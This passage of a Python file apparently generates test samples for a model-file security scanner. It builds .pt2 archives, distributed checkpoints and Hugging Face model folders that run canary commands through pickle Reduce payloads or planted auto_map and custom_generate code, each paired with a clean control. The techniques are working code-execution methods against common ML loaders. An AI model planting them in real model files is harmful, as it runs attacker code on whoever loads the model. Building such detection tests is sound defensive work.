    "hf-named-chat-templates-list",
    loader="hf_jinja_named",
    name="tokenizer_config.json",
)
def _tok_named_clean(out: Path, c: Canary) -> None:
    templates = [{"name": "default", "template": CHATML}, {"name": "tool_use", "template": CHATML}]
    out.write_text(json.dumps({"chat_template": templates, "eos_token": "<|im_end|>"}))


# --- torch.export .pt2 archives: pickled weights, opaque constants, example inputs ---------


def _pt2_base() -> dict[str, bytes]:
    """A genuine torch.export.save archive, as member name -> bytes."""
    import torch

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x):  # type: ignore[no-untyped-def]
            return self.lin(x)

    buf = io.BytesIO()
    torch.export.save(torch.export.export(Net(), (torch.zeros(1, 2),)), buf)
    z = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    return {n: z.read(n) for n in z.namelist()}


def _pt2_write(out: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)


def _member(members: dict[str, bytes], suffix: str) -> str:
    return next(n for n in members if n.endswith(suffix))


def _torch_save_bytes(obj: object) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


@sample("pt2-weight-use-pickle", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
def _pt2_weight(out: Path, c: Canary) -> None:
    m = _pt2_base()
    cfg_name = _member(m, "data/weights/model_weights_config.json")
    cfg = json.loads(m[cfg_name])
    entry = cfg["config"]["lin.bias"]
    entry["use_pickle"] = True
    m[cfg_name] = json.dumps(cfg).encode()
    m[_member(m, "data/weights/" + entry["path_name"])] = _torch_save_bytes(
        _pk.Reduce(os.system, c.shell)
    )
    _pt2_write(out, m)


@sample("pt2-opaque-constant", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
def _pt2_opaque(out: Path, c: Canary) -> None:
    m = _pt2_base()
    cfg_name = _member(m, "data/constants/model_constants_config.json")
    prefix = cfg_name[: -len("data/constants/model_constants_config.json")]
    entry = {
        "path_name": "opaque_obj_0",
        "is_param": False,
        "use_pickle": True,
        "tensor_meta": None,
    }
    m[cfg_name] = json.dumps({"config": {"tokenizer": entry}}).encode()
    m[prefix + "data/constants/opaque_obj_0"] = _pk.dumps(exec, c.py)
    _pt2_write(out, m)


@sample("pt2-sample-inputs", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
def _pt2_inputs(out: Path, c: Canary) -> None:
    """weights_only=True refuses the example inputs, and the loader falls back to False."""
    m = _pt2_base()
    m[_member(m, "data/sample_inputs/model.pt")] = _torch_save_bytes(
        ((_pk.Reduce(exec, c.py),), {})
    )
    _pt2_write(out, m)


@benign("pt2-exported-clean", "torch-export-pt2-pickle", loader="torch_export", name="model.pt2")
def _pt2_clean(out: Path, c: Canary) -> None:
    _pt2_write(out, _pt2_base())


# --- torch.distributed.checkpoint folders: .metadata is a plain pickle, BYTE_IO items ------


def _dcp_save(out: Path, state: dict[str, object]) -> None:
    import torch.distributed.checkpoint as dcp

    dcp.save(state, checkpoint_id=str(out))


@sample("dcp-metadata-pickle", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
def _dcp_meta(out: Path, c: Canary) -> None:
    """A genuine checkpoint whose .metadata keeps its Metadata object, with one more
    planner_data entry that runs on unpickling."""
    import torch

    _dcp_save(out, {"weight": torch.ones(2, 2), "step": 10})
    meta = pickle.loads((out / ".metadata").read_bytes())  # written just above by DCP itself
    meta.planner_data = {**(meta.planner_data or {}), "hook": _pk.Reduce(exec, c.py)}
    (out / ".metadata").write_bytes(pickle.dumps(meta))


@sample("dcp-bytes-item", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
def _dcp_bytes(out: Path, c: Canary) -> None:
    """A non-tensor entry is saved with torch.save inside the .distcp file and loaded with
    torch.load(weights_only=False)."""
    import torch

    _dcp_save(out, {"weight": torch.ones(2, 2), "step": _pk.Reduce(os.system, c.shell)})


@benign("dcp-clean", "torch-dcp-metadata-pickle", loader="torch_dcp", name="checkpoint")
def _dcp_clean(out: Path, c: Canary) -> None:
    import torch

    _dcp_save(out, {"weight": torch.ones(2, 2), "step": 10})


# --- Hugging Face: code beside a standard model, reached without any auto_map in config.json


def _tiny_gpt2(out: Path) -> None:
    from transformers import GPT2Config, GPT2LMHeadModel

    cfg = GPT2Config(vocab_size=16, n_positions=8, n_embd=8, n_layer=1, n_head=1)
    GPT2LMHeadModel(cfg).save_pretrained(out)


@sample("hf-custom-generate", "hf-custom-generate", loader="hf_causal_lm", name="model")
def _hf_gen(out: Path, c: Canary) -> None:
    _tiny_gpt2(out)
    (out / "custom_generate").mkdir()
    (out / "custom_generate" / "generate.py").write_text(
        f"{c.py}\n\n\ndef generate(model, *args, **kwargs):\n    return None\n"
    )


@benign("hf-gpt2-clean", "hf-custom-generate", loader="hf_causal_lm", name="model")
def _hf_gen_clean(out: Path, c: Canary) -> None:
    _tiny_gpt2(out)


@sample(
    "hf-feature-extractor-auto-map",
    "hf-processor-auto-map",
    loader="hf_feature_extractor",
    name="model",
)
def _hf_fe(out: Path, c: Canary) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps({"model_type": "wav2vec2"}))
    pre = {
        "feature_extractor_type": "TinyFeatureExtractor",
        "auto_map": {"AutoFeatureExtractor": "feature_extraction_tiny.TinyFeatureExtractor"},
    }
    (out / "preprocessor_config.json").write_text(json.dumps(pre))
    (out / "feature_extraction_tiny.py").write_text(
        f"{c.py}\nfrom transformers import FeatureExtractionMixin\n\n"
        "class TinyFeatureExtractor(FeatureExtractionMixin):\n    pass\n"
    )


@sample(
    "hf-processor-config-auto-map", "hf-processor-auto-map", loader="hf_processor", name="model"
)
def _hf_proc(out: Path, c: Canary) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps({"model_type": "vit"}))
    proc = {
        "processor_class": "TinyProcessor",
        "auto_map": {"AutoProcessor": "processing_tiny.TinyProcessor"},
    }
    (out / "processor_config.json").write_text(json.dumps(proc))
    (out / "processing_tiny.py").write_text(
        f"{c.py}\nfrom transformers import ProcessorMixin\n\n"
        "class TinyProcessor(ProcessorMixin):\n    attributes = []\n"
    )


@benign(
    "hf-feature-extractor-clean",
    "hf-processor-auto-map",
    loader="hf_feature_extractor",
    name="model",
)
def _hf_fe_clean(out: Path, c: Canary) -> None:
    out.mkdir()
    (out / "config.json").write_text(json.dumps({"model_type": "wav2vec2"}))
    pre = {
        "feature_extractor_type": "Wav2Vec2FeatureExtractor",
        "feature_size": 1,
        "sampling_rate": 16000,
        "padding_value": 0.0,
        "do_normalize": True,
        "return_attention_mask": False,
    }
    (out / "preprocessor_config.json").write_text(json.dumps(pre))
